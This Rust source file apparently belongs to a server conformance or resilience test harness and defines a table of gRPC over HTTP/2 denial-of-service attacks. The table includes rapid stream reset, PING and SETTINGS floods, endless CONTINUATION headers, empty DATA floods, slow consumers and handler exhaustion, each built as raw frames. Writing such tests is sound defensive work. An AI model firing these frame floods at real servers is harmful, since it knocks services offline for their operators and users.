//! Attacks over gRPC, each a row.

use super::attack::Attack;
use super::http2::{
    CONTINUATION, DATA, PING, RST_STREAM, WINDOW_UPDATE, field, frame, message, open, open_without_end,
    preface, setting,
};
use crate::conformance::wire;
use crate::dial::Proto;

const INITIAL_WINDOW_SIZE: u16 = 4;
const LARGEST_WINDOW: u32 = 0x7fff_ffff;
const FIRST_WINDOW: u32 = 65_535;
const CANCEL: u32 = 8;

/// All of them.
pub(super) const ROWS: &[Attack] = &[
    Attack {
        name: "grpc-rapid-reset",
        class: "100,000 streams opened and reset on one connection",
        pace: 16_500,
        most: 100_000,
        seconds: 7,
        unit: |_, at| {
            let reset = frame(RST_STREAM, id(at), &CANCEL.to_be_bytes());
            begun(at, [request(at, "idle"), reset].concat())
        },
        ..BASE
    },
    Attack {
        name: "grpc-pings",
        class: "PING frames, responses not read",
        reads: false,
        unit: |_, at| begun(at, frame(PING, 0, &[7; 8]).repeat(100)),
        ..BASE
    },
    Attack {
        name: "grpc-settings",
        class: "SETTINGS frames, responses not read",
        reads: false,
        unit: |_, at| begun(at, setting(INITIAL_WINDOW_SIZE, FIRST_WINDOW).repeat(100)),
        ..BASE
    },
    Attack {
        name: "grpc-continuation",
        class: "header lists that do not end",
        unit: |_, at| match at {
            0 => begun(0, open_without_end(1, "Bidi")),
            _ => frame(CONTINUATION, 1, &fields(150, 100)),
        },
        ..BASE
    },
    Attack {
        name: "grpc-header-lists",
        class: "large header lists, streams left open on 4 connections",
        connections: 4,
        unit: |_, at| begun(at, open(id(at), "Bidi", 4, 50_000)),
        ..BASE
    },
    Attack {
        name: "grpc-unread-responses",
        class: "dead readers: 200 endless responses on 4 connections, nothing read, windows open",
        connections: 4,
        reads: false,
        unit: |_, at| match at {
            0 => begun(
                0,
                [setting(INITIAL_WINDOW_SIZE, LARGEST_WINDOW), open_window(), request(0, ENDLESS)].concat(),
            ),
            1..50 => request(at, ENDLESS),
            _ => Vec::new(),
        },
        ..BASE
    },
    Attack {
        name: "grpc-empty-data",
        class: "100,000 empty DATA frames per second on one stream",
        unit: |_, at| match at {
            0 => begun(0, open(id(0), "Up", 0, 0)),
            _ => frame(DATA, id(0), &[]).repeat(100),
        },
        ..BASE
    },
    Attack {
        name: "grpc-messages-not-taken",
        class: "slow consumers: messages that handlers do not take, on 4 connections",
        connections: 4,
        reads: false,
        pace: 3_600,
        // Their responses have no window, so the handlers wait.
        unit: |_, at| match (at % PARTS, at / PARTS) {
            (_, STREAMS..) => Vec::new(),
            (0, stream) => begun(at, open(id(stream), "Bidi", 0, 0)),
            (_, stream) => message(id(stream), &wire::message(&"x".repeat(16_000), 0)),
        },
        ..BASE
    },
    Attack {
        name: "grpc-handlers",
        class: "16,000 handlers at once on 16 connections",
        connections: 16,
        pace: 5_000,
        unit: |_, at| if at < STREAMS { begun(at, request(at, "idle")) } else { Vec::new() },
        ..BASE
    },
];

const BASE: Attack = Attack { proto: Proto::Grpc, ..Attack::BASE };
const ENDLESS: &str = "n=-1;size=1024";
/// A request and its messages, which are within the window that a stream has without settings.
const PARTS: usize = 4;
/// Streams that are open on one connection at most, by the default of a server.
const STREAMS: usize = 1024;

/// What a connection begins with stands before its first unit.
fn begun(at: usize, bytes: Vec<u8>) -> Vec<u8> {
    if at == 0 { [preface(), bytes].concat() } else { bytes }
}

fn request(stream: usize, words: &str) -> Vec<u8> {
    [open(id(stream), "Down", 0, 0), message(id(stream), &wire::message(words, 0))].concat()
}

fn open_window() -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, &(LARGEST_WINDOW - FIRST_WINDOW).to_be_bytes())
}

fn fields(count: usize, bytes: usize) -> Vec<u8> {
    let mut block = Vec::new();
    (0..count).for_each(|_| field(&mut block, "k", &"v".repeat(bytes)));
    block
}

/// The id of a client's stream by its number.
fn id(number: usize) -> u32 {
    u32::try_from(2 * number + 1).unwrap_or(u32::MAX >> 1)
}
